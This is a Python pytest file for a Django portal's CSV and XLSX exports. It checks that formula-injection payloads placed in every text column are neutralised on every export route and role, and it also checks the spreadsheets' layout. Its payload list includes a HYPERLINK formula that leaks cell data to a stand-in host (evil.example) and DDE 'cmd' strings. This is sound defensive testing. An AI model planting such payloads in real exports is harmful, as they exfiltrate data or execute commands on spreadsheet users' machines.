"""No export carries a live formula (issue 15, item 1).

Generated over the class: every free-text column of every model of the portal (the names,
comments, explanations and labels officers, applicants and the office type) is set to a formula
payload in the demo district, then every export route is fetched: every route of the URLconf
with its ``?export=`` and ``?format=`` CSV/XLSX variants and its ``.<fmt>`` downloads, and every
API operation that declares a ``format``. No CSV cell may begin with a formula character unless
it is a number, and no XLSX cell may be a formula (``data_type`` ``f``) or text beginning with
one. Every export must also show the payload (neutralised), so the check cannot pass by showing
nothing. A new export, column or writer is covered the day it is added.
"""

import csv
import datetime
import io
import itertools
import re
from decimal import Decimal, InvalidOperation
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.db import models
from openpyxl.utils import get_column_letter
from rest_framework.test import APIClient

from qinhuai_talent.core import clock, spreadsheets
from qinhuai_talent.core.models import User

from .test_access_matrix import schema_paths, web_patterns

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"Open"){n}',
    "+1+{n}",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+{n})*cmd|' /C calc'!A0",
    "\t=1+{n}",
    "\r=2+{n}",
]
SHORT = ["={n}", "+{n}", "-{n}x", "@{n}", "\t={n}", "\r={n}"]
# Identifiers the machinery itself keys on, that no person types as free text: the login's
# secret and the chain hashes. Everything else a person can name or describe is poisoned.
UNTOUCHED = {("core", "user", "password")}
UNTOUCHED_NAMES = {"hash", "prev_hash", "password"}
ROLES = ("office", "street", "finance")
FORMAT_PARAMETERS = ("export", "format")


def _portal_models() -> list[type[models.Model]]:
    base = str(settings.BASE_DIR)
    return [
        m
        for m in apps.get_models()
        if str(apps.get_app_config(m._meta.app_label).path).startswith(base)
        and "site-packages" not in str(apps.get_app_config(m._meta.app_label).path)
        and not m._meta.proxy
        and m._meta.managed
    ]


def _text_fields(model) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and not f.primary_key
        and f.name not in UNTOUCHED_NAMES
        and (model._meta.app_label, model._meta.model_name, f.name) not in UNTOUCHED
    ]


def _poison() -> int:
    """Every free-text column of every row gets a payload (unique per row, within its length)."""
    columns = 0
    for model in _portal_models():
        fields = _text_fields(model)
        if not fields or not model._default_manager.exists():
            continue
        columns += len(fields)
        for pk in model._default_manager.values_list("pk", flat=True).iterator():
            values = {}
            for i, f in enumerate(fields):
                payload = PAYLOADS[i % len(PAYLOADS)].format(n=pk)
                if f.max_length and len(payload) > f.max_length:
                    payload = SHORT[i % len(SHORT)].format(n=pk)[: f.max_length]
                values[f.attname] = payload
            model._default_manager.filter(pk=pk).update(**values)
    return columns


def _is_number(text: str) -> bool:
    try:
        return Decimal(text.replace(",", "")).is_finite()
    except InvalidOperation:
        return False


def _live_cells(response) -> tuple[list[str], int]:
    """The cells a spreadsheet program would run, and how many neutralised payloads were seen."""
    body = response.content
    live, neutralised = [], 0
    if response["Content-Type"].startswith(spreadsheets.XLSX_TYPE):
        book = openpyxl.load_workbook(io.BytesIO(body))
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    value = cell.value
                    if cell.data_type == "f":
                        live.append(f"{ws.title}!{cell.coordinate}: formula {value!r}")
                    elif isinstance(value, str) and value.startswith(FORMULA_STARTS):
                        live.append(f"{ws.title}!{cell.coordinate}: text {value!r}")
                    elif isinstance(value, str) and value[:1] == "'" and value[1:2] in FORMULA_STARTS:
                        neutralised += 1
        return live, neutralised
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "CSV without the byte-order mark Excel needs for Chinese"
    for r, row in enumerate(csv.reader(io.StringIO(text[1:], newline=""))):
        for c, value in enumerate(row):
            if value.startswith(FORMULA_STARTS) and not _is_number(value):
                live.append(f"row {r + 1} column {c + 1}: {value!r}")
            elif value[:1] == "'" and value[1:2] in FORMULA_STARTS:
                neutralised += 1
    return live, neutralised


def _is_export(response) -> bool:
    kind = response.get("Content-Type", "")
    return response.status_code == 200 and (kind.startswith("text/csv") or kind.startswith(spreadsheets.XLSX_TYPE))


def _has_rows(response) -> bool:
    """More than a heading and the column titles."""
    if response.get("Content-Type", "").startswith("text/csv"):
        return len([line for line in response.content.decode("utf-8-sig").splitlines() if line.strip()]) > 2
    book = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True)
    return any(sum(1 for _row in itertools.islice(ws.iter_rows(values_only=True), 3)) > 2 for ws in book.worksheets)


def _first_pks(per_model: int = 1) -> list[int]:
    """The ids of the first ``per_model`` records of every model of the portal, in order."""
    pks = set()
    for model in _portal_models():
        found = model._default_manager.order_by("pk").values_list("pk", flat=True)[:per_model]
        pks.update(pk for pk in found if isinstance(pk, int))
    return sorted(pks)


def export_urls(client) -> list[str]:
    """Every export the URLconf and the OpenAPI schema offer, as found by asking for them."""
    found = []
    pks = more = None
    for route, _ in web_patterns():
        if route.startswith(("api/", "admin/", "static/", "^")) or "\\" in route or "(" in route:
            continue
        fmt_in_path = "<str:fmt>" in route
        if "<" in route.replace("<int:pk>", "").replace("<str:fmt>", ""):
            continue
        if "<int:pk>" in route and not fmt_in_path and "export" not in route:
            continue  # record pages offer no export; those that do say so in their route
        if "<int:pk>" in route:
            pks = pks if pks is not None else _first_pks()
            # The first record of every model, then more of them (a record with rows to export).
            more = more if more is not None else [pk for pk in _first_pks(40) if pk not in pks]
            candidates = [route.replace("<int:pk>", str(pk)) for pk in [*pks, *more]]
        else:
            candidates = [route]
        first = None
        for candidate in candidates:
            if fmt_in_path:
                urls = ["/" + candidate.replace("<str:fmt>", fmt) for fmt in spreadsheets.FORMATS]
            else:
                urls = [f"/{candidate}?{param}={fmt}" for param in FORMAT_PARAMETERS for fmt in spreadsheets.FORMATS]
            responses = {u: client.get(u) for u in urls}
            answered = [u for u, r in responses.items() if _is_export(r)]
            first = first or answered
            # A record's export is checked on a record that has rows to export (a call's public
            # notice lists no one before its notice begins).
            if answered and all(_has_rows(responses[u]) for u in answered):
                found += answered
                first = None
                break
        found += first or []
    for path, ops in schema_paths().items():
        params = ops.get("get", {}).get("parameters", [])
        if "{" not in path and any(p.get("name") == "format" for p in params):
            found += [f"{path}?format={fmt}" for fmt in spreadsheets.FORMATS]
    return found


@pytest.fixture
def office(demo_district, settings):
    # The demo district as `make run` shows it: evaluated on its day, so the reports' default
    # year is the demo's 2017 with all its records, not whatever year the real date makes it.
    settings.PORTAL_AS_OF = clock.DEMO_DAY.isoformat()
    return User.objects.get(username="office")


def test_every_export_route_neutralises_formula_payloads_in_every_text_column(demo_district, client, office):
    client.force_login(office)
    routes = export_urls(client)
    users = {u.username: u for u in User.objects.filter(username__in=ROLES)}
    columns = _poison()
    assert columns > 50, "the walk found the models' text columns"
    failures, fetched, cells = [], 0, 0
    for username in ROLES:
        web, api = client, APIClient()
        web.force_login(users[username])
        api.force_authenticate(users[username])
        for url in routes:
            response = (api if url.startswith("/api/") else web).get(url)
            if response.status_code in (403, 404):
                continue  # not this role's export
            assert _is_export(response), f"{username} {url}: {response.status_code} {response.get('Content-Type')}"
            fetched += 1
            live, neutralised = _live_cells(response)
            cells += neutralised
            failures += [f"{username} {url}: {x}" for x in live[:5]]
            if username == "office" and not neutralised:
                failures.append(f"office {url}: no payload shown, so nothing was checked")
    print(
        f"exports: {len(routes)} routes, {fetched} fetched as {len(ROLES)} roles, "
        f"{columns} text columns poisoned, {cells} payload cells neutralised, {len(failures)} live"
    )
    assert len(routes) >= 20 and fetched >= len(routes)
    assert not failures, "\n".join(failures[:60])


def test_the_walk_finds_every_export_the_portal_writes(demo_district, client, office):
    """The route walk finds each kind of export, and no module but the one writer writes CSV or XLSX."""
    client.force_login(office)
    urls = export_urls(client)
    for expected in (
        "/reports/?export=xlsx",
        "/reports/funding/?export=csv",
        "/funding/ledger/?format=xlsx",
        "/funding/?format=csv",
        "/enterprises/export/?format=csv",
        "/api/v1/reports/summary/?format=xlsx",
    ):
        assert expected in urls, f"{expected} not found among {urls}"
    assert any(re.match(r"/assessment/league\.xlsx", u) for u in urls)
    assert any(re.match(r"/assessment/work-funds/\d+/shares\.csv", u) for u in urls)
    writers = re.compile(r"csv\.(writer|DictWriter)|\bWorkbook\(|WriteOnlyCell")
    base = Path(settings.BASE_DIR)
    offenders = [
        str(p.relative_to(base))
        for p in itertools.chain.from_iterable(
            Path(app).rglob("*.py")
            for app in (c.path for c in apps.get_app_configs() if str(c.path).startswith(str(base)))
        )
        if p.name != "spreadsheets.py" and writers.search(p.read_text())
    ]
    assert not offenders, f"CSV/XLSX written outside qinhuai_talent.core.spreadsheets: {offenders}"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_beginning_with_a_formula_character_is_neutralised_numbers_and_dates_stay(start):
    payload = f"{start}1+1"
    assert spreadsheets.cell_value(payload) == "'" + payload
    assert spreadsheets.cell_value(Decimal("-12.50"), spreadsheets.MONEY) == Decimal("-12.50")
    assert spreadsheets.cell_value(-3) == -3
    assert spreadsheets.cell_value(datetime.date(2017, 3, 1)) == datetime.date(2017, 3, 1)
    sheet = spreadsheets.Sheet("t", ["name", spreadsheets.Column("amount", spreadsheets.MONEY)], [[payload, -5]])
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.write_xlsx([sheet])))
    name, amount = book.active["A2"], book.active["B2"]
    # XML keeps a carriage return as a line break; what matters is the apostrophe in front.
    assert (name.data_type, name.value.replace("\n", "\r")) == ("s", "'" + payload)
    assert (amount.data_type, amount.value) == ("n", -5)
    rows = list(csv.reader(io.StringIO(spreadsheets.write_csv([sheet]).decode("utf-8")[1:], newline="")))
    assert rows[1] == ["'" + payload, "-5"]


# ---------------------------------------------------------------- spreadsheets as people use them (item 11)

ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}(?:[ T].*)?")
YEAR_TEXT = re.compile(r"(?:19|20)\d\d")
CODE_WIDTH = 14


def _sheet_problems(url: str, ws) -> list[str]:
    problems = []
    setup = ws.page_setup
    if setup.orientation != "landscape" or str(setup.fitToWidth) != "1" or str(setup.fitToHeight) != "0":
        problems.append(f"print setup {setup.orientation}, {setup.fitToWidth} wide, {setup.fitToHeight} tall")
    if not (ws.sheet_properties.pageSetUpPr and ws.sheet_properties.pageSetUpPr.fitToPage):
        problems.append("not fitted to the page")
    titles = ws.print_title_rows or ""
    if not re.fullmatch(r"\$?1:\$?\d", titles):
        problems.append(f"heading rows not repeated ({titles!r})")
        return problems
    header_row = int(titles.split(":")[1].strip("$"))
    headers = [str(c.value or "") for c in ws[header_row]]
    money = {i for i, h in enumerate(headers) if h.endswith(("(yuan)", "（元）"))}
    for i, header in enumerate(headers):
        if header.endswith(" code"):
            name = header[: -len(" code")]
            if name in headers and headers.index(name) > i:
                problems.append(f"{header!r} comes before {name!r}")
            width = ws.column_dimensions[get_column_letter(i + 1)].width
            if width and width > CODE_WIDTH:
                problems.append(f"{header!r} is {width} wide")
    for row in ws.iter_rows(min_row=header_row + 1):
        for i, cell in enumerate(row):
            where = f"{ws.title}!{cell.coordinate} ({headers[i] if i < len(headers) else ''})"
            if isinstance(cell.value, str) and ISO_DATE.fullmatch(cell.value):
                problems.append(f"{where}: the date {cell.value!r} is text")
            elif isinstance(cell.value, str) and YEAR_TEXT.fullmatch(cell.value):
                problems.append(f"{where}: the year {cell.value!r} is text")
            elif isinstance(cell.value, int | float | Decimal) and not isinstance(cell.value, bool):
                if i in money and not cell.number_format.startswith("#,##0"):
                    problems.append(f"{where}: money formatted {cell.number_format!r}")
                if cell.number_format == spreadsheets.MONEY_FORMAT and i not in money:
                    problems.append(f"{where}: money without its unit in the heading")
            elif isinstance(cell.value, datetime.date) and "yy" not in cell.number_format:
                problems.append(f"{where}: a date formatted {cell.number_format!r}")
    return problems


def test_every_xlsx_export_has_typed_cells_and_prints_one_page_wide(demo_district, client, office):
    client.force_login(office)
    urls = [u for u in export_urls(client) if u.endswith("xlsx")]
    problems, sheets, dates = [], 0, 0
    for url in urls:
        for language in ("en", "zh-hans"):
            response = (_api_as(office) if url.startswith("/api/") else client).get(url, HTTP_ACCEPT_LANGUAGE=language)
            book = openpyxl.load_workbook(io.BytesIO(response.content))
            for ws in book.worksheets:
                sheets += 1
                dates += sum(isinstance(c.value, datetime.date) for row in ws.iter_rows() for c in row)
                problems += [f"{url} [{language}] {ws.title}: {p}" for p in _sheet_problems(url, ws)[:5]]
    print(f"xlsx exports: {len(urls)}, {sheets} sheets in two languages, {dates} date cells, {len(problems)} problems")
    assert sheets > 20 and dates > 100
    assert not problems, "\n".join(problems[:60])


def _api_as(user):
    api = APIClient()
    api.force_authenticate(user)
    return api
